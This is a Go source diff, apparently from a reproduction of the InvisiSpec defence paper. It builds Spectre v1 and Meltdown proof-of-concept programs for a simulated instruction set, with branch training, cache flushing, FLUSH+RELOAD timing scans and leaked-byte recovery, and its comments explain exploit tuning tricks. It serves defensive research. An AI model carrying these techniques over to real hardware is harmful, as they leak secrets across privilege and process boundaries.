@@ -1,0 +1,331 @@
+// Package workload provides the programs the evaluation runs: the Spectre
+// variant-1 proof-of-concept of the paper's Figure 1 (used for Figure 5), a
+// Meltdown-style exception attack, 23 SPEC2006-like single-threaded kernels,
+// and 9 PARSEC-like multi-threaded kernels. See DESIGN.md §2 for how these
+// substitute for the paper's benchmark binaries.
+package workload
+
+import "invisispec/internal/isa"
+
+// Memory layout of the Spectre proof of concept.
+const (
+	// SpectreABase is the base of the victim's 10-byte array A.
+	SpectreABase = 0x100000
+	// SpectreSecretOffset is the attacker-chosen out-of-bounds index:
+	// the secret byte lives at SpectreABase + SpectreSecretOffset.
+	SpectreSecretOffset = 0x800
+	// SpectreBoundsAddr holds the bounds value (10) that the victim's
+	// if-condition loads; the attacker flushes it to widen the speculation
+	// window, as real exploits do.
+	SpectreBoundsAddr = 0x180000
+	// SpectreBBase is the base of the 256-line probe array B.
+	SpectreBBase = 0x200000
+	// SpectreResultsBase receives 256 little-endian uint64 access
+	// latencies, one per probe line, measured by the attacker's scan.
+	SpectreResultsBase = 0x300000
+	// SpectreProbeLines is the number of probe lines (possible byte
+	// values).
+	SpectreProbeLines = 256
+)
+
+// SpectreV1 assembles the attack of the paper's Figure 1 in one program
+// (the SameThread setting): the attacker trains the victim's bounds-check
+// branch, flushes the bounds and the probe array, calls the victim with an
+// out-of-bounds index that speculatively reads the secret byte and touches
+// the secret-indexed probe line, then times a scan of every probe line.
+// On an insecure machine the secret-indexed line is a cache hit; under
+// InvisiSpec the squashed loads leave no trace and every probe misses.
+func SpectreV1(secret byte) *isa.Program { return spectreV1(secret, false) }
+
+// SpectreV1Annotated is the same attack with the victim's transient access
+// and transmit loads (incorrectly) annotated as statically safe. It exists
+// to demonstrate the threat-model boundary of the TrustSafeAnnotations
+// optimization (§XI): a wrong proof re-opens the leak.
+func SpectreV1Annotated(secret byte) *isa.Program { return spectreV1(secret, true) }
+
+func spectreV1(secret byte, annotateVictim bool) *isa.Program {
+	const (
+		rArg    = 1  // victim argument a
+		rT0     = 3  // scan timing
+		rVal    = 4  // scanned byte
+		rT1     = 5  //
+		rDelta  = 6  //
+		rResPtr = 7  //
+		rIdx    = 8  // scan index
+		rRound  = 10 // training round counter
+		rLimit  = 11 //
+		rBnd    = 12 // victim: bounds value
+		rSecPtr = 13 // victim: &A[a]
+		rSec    = 14 // victim: A[a]
+		rBPtr   = 15 // victim: &B[64*A[a]]
+		rJunk   = 16 // victim: transmitted value
+		rA      = 20 // &A
+		rB      = 21 // &B
+		rRes    = 22 // &results
+		rBndPtr = 23 // &bounds
+		rLink   = 30 // return address
+	)
+	b := isa.NewBuilder("spectre-v1")
+	// Victim data: A[0..9] = 0, the secret byte at A+offset, bounds = 10.
+	b.Data(SpectreABase, make([]byte, 10))
+	b.Data(SpectreABase+SpectreSecretOffset, []byte{secret})
+	b.DataU64(SpectreBoundsAddr, 10)
+
+	b.Li(rA, SpectreABase).
+		Li(rB, SpectreBBase).
+		Li(rRes, SpectreResultsBase).
+		Li(rBndPtr, SpectreBoundsAddr)
+
+	// Train the bounds-check branch: 16 rounds over the valid indices.
+	b.Li(rRound, 16)
+	b.Label("train_outer").
+		Li(rArg, 0)
+	b.Label("train_inner").
+		Call(rLink, "victim").
+		AddI(rArg, rArg, 1).
+		Li(rLimit, 10).
+		Blt(rArg, rLimit, "train_inner").
+		AddI(rRound, rRound, -1).
+		Bne(rRound, 0, "train_outer")
+
+	// Warm the D-TLB entries of every probe-array page (one line per 4 KiB
+	// page) so the transient probe load is not stalled by a page walk —
+	// the standard exploit preparation step.
+	for pg := int64(0); pg < SpectreProbeLines*64; pg += isa.PageSize {
+		b.Ld(1, rVal, rB, pg)
+	}
+	// Let wrong-path stragglers land: the mispredicted training-loop exit
+	// transiently re-runs victim(0), and its in-flight B[0] fill would
+	// otherwise re-warm the line after our flush. Two serialized cold
+	// loads plus fences give those fills time to arrive before we flush.
+	b.Li(rLimit, 0x190000).
+		Fence().
+		Ld(8, rVal, rLimit, 0).
+		AndI(rVal, rVal, 0).
+		Add(rLimit, rLimit, rVal).
+		Ld(8, rVal, rLimit, 4096).
+		Fence()
+	// Flush the state the attack depends on: the bounds (to widen the
+	// speculation window) and every probe line touched so far — B[0] from
+	// training, the page-warming lines, and the next-line prefetches each
+	// of those triggered.
+	b.Flush(rBndPtr, 0).
+		Flush(rB, 0)
+	for pg := int64(0); pg < SpectreProbeLines*64; pg += isa.PageSize {
+		for d := int64(0); d <= 4; d++ {
+			b.Flush(rB, pg+64*d)
+		}
+	}
+	b.Fence()
+
+	// The attack call: a = X - &A reaches the secret byte. The fence keeps
+	// the scan's own probes from issuing down the mispredicted path (which
+	// falls through the victim's return into the scan) before the bounds
+	// check resolves.
+	b.Li(rArg, SpectreSecretOffset).
+		Call(rLink, "victim").
+		Fence()
+
+	// FLUSH+RELOAD scan: time one load per probe line. Two standard
+	// exploit tricks: (1) each probe's address carries a (zero-valued)
+	// dependence on the previous probe's data, serializing the probes so
+	// out-of-order overlap cannot skew the timings; (2) the lines are
+	// probed in DESCENDING order so the hardware next-line prefetcher
+	// (which only runs upward) can never pre-warm the next probe.
+	const rShuf = 24
+	b.Li(rIdx, 0).
+		Li(rVal, 0)
+	b.Label("scan").
+		Li(rShuf, SpectreProbeLines-1).
+		Sub(rShuf, rShuf, rIdx). // descending probe index
+		AndI(rDelta, rVal, 0).   // 0, but depends on the previous probe
+		ShlI(rBPtr, rShuf, 6).
+		Add(rBPtr, rBPtr, rB).
+		Add(rBPtr, rBPtr, rDelta).
+		Cycle(rT0, rBPtr).     // t0, ordered after the address
+		Ld(1, rVal, rBPtr, 0). //
+		Cycle(rT1, rVal).      // t1, ordered after the loaded value
+		Sub(rDelta, rT1, rT0).
+		ShlI(rResPtr, rShuf, 3).
+		Add(rResPtr, rResPtr, rRes).
+		St(8, rResPtr, 0, rDelta).
+		AddI(rIdx, rIdx, 1).
+		Li(rLimit, SpectreProbeLines).
+		Blt(rIdx, rLimit, "scan").
+		Halt()
+
+	// victim(a): if (a < bounds) junk = B[64 * A[a]]  — Figure 1.
+	b.Label("victim").
+		Ld(8, rBnd, rBndPtr, 0). // bounds load: slow when flushed
+		Div(rBnd, rBnd, rBnd).   // dependent chain delays resolution
+		AddI(rBnd, rBnd, 9).     // 10
+		Div(rBnd, rBnd, rBnd).   // 1 (another 12 cycles)
+		ShlI(rBnd, rBnd, 1).
+		ShlI(rBnd, rBnd, 2).
+		AddI(rBnd, rBnd, 2). // rBnd = 10 again
+		Bge(rArg, rBnd, "victim_ret").
+		Add(rSecPtr, rA, rArg)
+	if annotateVictim {
+		b.LdSafe(1, rSec, rSecPtr, 0). // the access instruction (reads the secret)
+						ShlI(rSec, rSec, 6).
+						Add(rBPtr2, rB, rSec).
+						LdSafe(1, rJunk, rBPtr2, 0) // the transmit instruction
+	} else {
+		b.Ld(1, rSec, rSecPtr, 0). // the access instruction (reads the secret)
+						ShlI(rSec, rSec, 6).
+						Add(rBPtr2, rB, rSec).
+						Ld(1, rJunk, rBPtr2, 0) // the transmit instruction
+	}
+	b.Label("victim_ret").
+		Ret(rLink)
+	return b.MustBuild()
+}
+
+const rBPtr2 = 17
+
+// SpectreScanLatencies extracts the attacker's measured per-line latencies
+// from a finished machine's memory.
+func SpectreScanLatencies(mem *isa.Memory) [SpectreProbeLines]uint64 {
+	var out [SpectreProbeLines]uint64
+	for i := range out {
+		out[i] = mem.Read(SpectreResultsBase+uint64(8*i), 8)
+	}
+	return out
+}
+
+// LeakedByte returns the attacker's guess for the secret: the LOWEST probe
+// index whose latency is within 2x of the fastest line. The transient
+// access itself touches exactly B[64*secret]; the hardware prefetcher may
+// additionally warm a few lines ABOVE it, so the lowest hot index is the
+// secret.
+func LeakedByte(mem *isa.Memory) (idx int, latency uint64) {
+	lat := SpectreScanLatencies(mem)
+	min := lat[0]
+	for _, l := range lat {
+		if l < min {
+			min = l
+		}
+	}
+	for i, l := range lat {
+		if l <= 2*min {
+			return i, l
+		}
+	}
+	return 0, lat[0]
+}
+
+// Meltdown memory layout.
+const (
+	MeltdownSecretAddr  = 0x400000
+	MeltdownProbeBase   = 0x500000
+	MeltdownResultsBase = 0x600000
+)
+
+// Meltdown assembles an exception-based transient attack: a privileged load
+// reads the secret; dependent transient instructions touch a secret-indexed
+// probe line before the fault squashes them at retirement; the handler then
+// times a scan. Spectre-only defenses (IS-Spectre) do NOT stop this —
+// exceptions are a Futuristic-model squash source — while IS-Future does.
+func Meltdown(secret byte) *isa.Program {
+	const (
+		rSecPtr = 1
+		rSec    = 2
+		rBPtr   = 3
+		rJunk   = 4
+		rProbe  = 20
+		rRes    = 22
+		rIdx    = 8
+		rT0     = 9
+		rVal    = 10
+		rT1     = 11
+		rDelta  = 12
+		rLimit  = 13
+	)
+	const (
+		rBlock  = 14
+		rBlkPtr = 15
+		rOne    = 16
+	)
+	b := isa.NewBuilder("meltdown")
+	b.Data(MeltdownSecretAddr, []byte{secret})
+	b.Li(rProbe, MeltdownProbeBase).
+		Li(rRes, MeltdownResultsBase).
+		Li(rSecPtr, MeltdownSecretAddr).
+		// Warm the secret page's TLB entry with an adjacent, unprivileged
+		// load so the privileged load performs quickly.
+		Ld(1, rVal, rSecPtr, 63)
+	// Warm the probe pages' TLB entries, then flush the touched lines.
+	for pg := int64(0); pg < 256*64; pg += isa.PageSize {
+		b.Ld(1, rVal, rProbe, pg)
+	}
+	b.Fence()
+	for pg := int64(0); pg < 256*64; pg += isa.PageSize {
+		for d := int64(0); d <= 4; d++ { // warmed line + its prefetches
+			b.Flush(rProbe, pg+64*d)
+		}
+	}
+	b.Fence().
+		// A blocker load whose address hangs off a divide chain keeps the
+		// privileged load away from the ROB head long enough for its
+		// dependent transient instructions to run (real Meltdown exploits
+		// delay retirement the same way).
+		Li(rBlock, 6400).
+		Li(rOne, 10).
+		Div(rBlock, rBlock, rOne).
+		Div(rBlock, rBlock, rOne).
+		Div(rBlock, rBlock, rOne). // 6, late
+		AndI(rBlock, rBlock, 0).
+		Li(rBlkPtr, 0x700000).
+		Add(rBlkPtr, rBlkPtr, rBlock).
+		Ld(8, rBlock, rBlkPtr, 0). // cold: holds the ROB head ~150 cycles
+		// The access instruction: privileged, faults at retirement...
+		LdPriv(1, rSec, rSecPtr, 0).
+		// ...but these transient instructions run first:
+		ShlI(rSec, rSec, 6).
+		Add(rBPtr, rProbe, rSec).
+		Ld(1, rJunk, rBPtr, 0).
+		Halt() // unreachable: the fault transfers to the handler
+	const rShuf = 17
+	b.Label("handler").
+		Li(rIdx, 0).
+		Li(rVal, 0)
+	b.Label("scan").
+		Li(rShuf, 255). // descending probe order defeats the prefetcher
+		Sub(rShuf, rShuf, rIdx).
+		AndI(rDelta, rVal, 0). // serialize probes (see SpectreV1)
+		ShlI(rBPtr, rShuf, 6).
+		Add(rBPtr, rBPtr, rProbe).
+		Add(rBPtr, rBPtr, rDelta).
+		Cycle(rT0, rBPtr).
+		Ld(1, rVal, rBPtr, 0).
+		Cycle(rT1, rVal).
+		Sub(rDelta, rT1, rT0).
+		ShlI(rT0, rShuf, 3).
+		Add(rT0, rT0, rRes).
+		St(8, rT0, 0, rDelta).
+		AddI(rIdx, rIdx, 1).
+		Li(rLimit, 256).
+		Blt(rIdx, rLimit, "scan").
+		Halt().
+		Handler("handler")
+	return b.MustBuild()
+}
+
+// MeltdownLeakedByte returns the handler's best guess (lowest hot index,
+// see LeakedByte).
+func MeltdownLeakedByte(mem *isa.Memory) (idx int, latency uint64) {
+	var lats [256]uint64
+	min := ^uint64(0)
+	for i := 0; i < 256; i++ {
+		lats[i] = mem.Read(MeltdownResultsBase+uint64(8*i), 8)
+		if lats[i] < min {
+			min = lats[i]
+		}
+	}
+	for i, l := range lats {
+		if l <= 2*min {
+			return i, l
+		}
+	}
+	return 0, lats[0]
+}
